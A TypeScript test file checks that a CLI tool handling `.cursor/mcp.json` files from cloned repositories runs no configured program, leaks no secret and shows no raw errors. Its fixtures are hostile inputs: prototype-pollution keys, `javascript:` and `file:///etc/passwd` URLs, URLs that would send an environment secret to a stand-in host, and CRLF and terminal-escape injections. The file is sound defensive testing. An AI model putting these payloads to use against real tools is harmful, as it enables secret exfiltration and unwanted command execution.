/** Configuration files of a cloned repository: no command runs what they name, shows a secret, or ends with an error of the runtime. */
import { ok, strictEqual } from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { runHere } from "../run_here.ts";
import { temporaryFolder } from "../../../temporary_folder.ts";

const SECRET = "s3cret-value";
const servers = (entries: object) => JSON.stringify({ mcpServers: entries });

/** Texts of `.cursor/mcp.json`. `touch` would create a file in the project. */
const CONFIGS: Readonly<Record<string, string>> = {
  "a list": "[]",
  "null": "null",
  "a text": '"x"',
  "100,000 nested lists": "[".repeat(100_000),
  "a byte order mark": "\ufeff{}",
  "nothing": "",
  "control characters alone": "\u0000\u0001",
  "a server named __proto__": '{"mcpServers":{"__proto__":{"command":"touch","args":["PWN"]}}}',
  "servers below __proto__": '{"__proto__":{"mcpServers":{"a":{"command":"touch","args":["PWN"]}}}}',
  "a command that is a number": servers({ a: { command: 5, args: "x", env: 7 } }),
  "arguments that are objects": servers({ a: { command: "x", args: [{ a: 1 }, null] } }),
  "a program": servers({ a: { command: "touch", args: ["PWN"] } }),
  "a program with a variable": servers({ a: { command: "touch", args: ["PWN", "${env:SECRET}"] } }),
  "a URL of a script": servers({ a: { url: "javascript:alert(1)" } }),
  "a URL of a file": servers({ a: { url: "file:///etc/passwd" } }),
  "a URL with a variable": servers({ a: { url: "https://x.example/${env:SECRET}?t=${env:SECRET}" } }),
  "a URL with a user": servers({ a: { url: "https://u:${env:SECRET}@x.example/" } }),
  "headers with a variable": servers({
    a: { url: "http://127.0.0.1:9/", headers: { x: "${env:SECRET}", "y\r\nz": "1" } },
  }),
  "a name of control characters": servers({ "a\u001b[2J\u202e\n\u0000": { command: "x" } }),
  "a command of control characters": servers({ a: { command: "x\u001b]0;evil\u0007\n" } }),
  "a host of control characters": servers({ a: { url: "https://x\u001b[2J.example/" } }),
  "10,000 servers": servers(Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`s${n}`, { command: "x" }]))),
  "a name of 100,000 letters": servers({ ["n".repeat(100_000)]: { command: "x" } }),
  "a server named twice": '{"mcpServers":{"a":{"command":"x"},"a":{"command":"touch","args":["PWN"]}}}',
};

const COMMANDS: readonly (readonly string[])[] = [
  ["list"],
  ["list", "--json"],
  ["list", "cursor:a"],
  ["call", "a", "x"],
  ["doctor", "cursor:a"],
  ["inspect", "cursor:a"],
  ["install", "cursor", "--scope", "project", "--dry-run", "--no-start", "--name", "b", "--", "true"],
];

/** Errors of the runtime, and control characters but line breaks and colours. */
const RAW =
  /TypeError|RangeError|SyntaxError|Cannot read prop|undefined is not|is not a function|EISDIR|ENOENT|at .*\.ts:\d/;
const CONTROL = /(?!\n)\p{Cc}|[\u202a-\u202e]/u;

for (const [name, config] of Object.entries(CONFIGS)) {
  test(`a project's file with ${name} runs nothing, and is shown as what it is`, async () => {
    await using folder = await temporaryFolder();
    const at = (...names: readonly string[]) => join(folder.path, ...names);
    mkdirSync(at("project/.cursor"), { recursive: true });
    mkdirSync(at("home"));
    writeFileSync(at("project/.cursor/mcp.json"), config);
    for (const command of COMMANDS) {
      const place = { cwd: at("project"), env: { HOME: at("home"), SECRET } };
      const { code, out, errors } = await runHere(place, ...command);
      const all = out + errors;
      ok(!all.includes(SECRET), `${command}: ${all}`);
      ok(!RAW.test(all), `${command}: ${all.slice(0, 500)}`);
      ok(!CONTROL.test(all), `${command}: ${JSON.stringify(all.slice(0, 500))}`);
      if (command.includes("cursor:a") || command[0] === "call") ok(code !== 0, `${command} ended with 0: ${all}`);
    }
    strictEqual(existsSync(at("project/PWN")), false, "its program was started");
    strictEqual(readFileSync(at("project/.cursor/mcp.json"), "utf8"), config);
  });
}
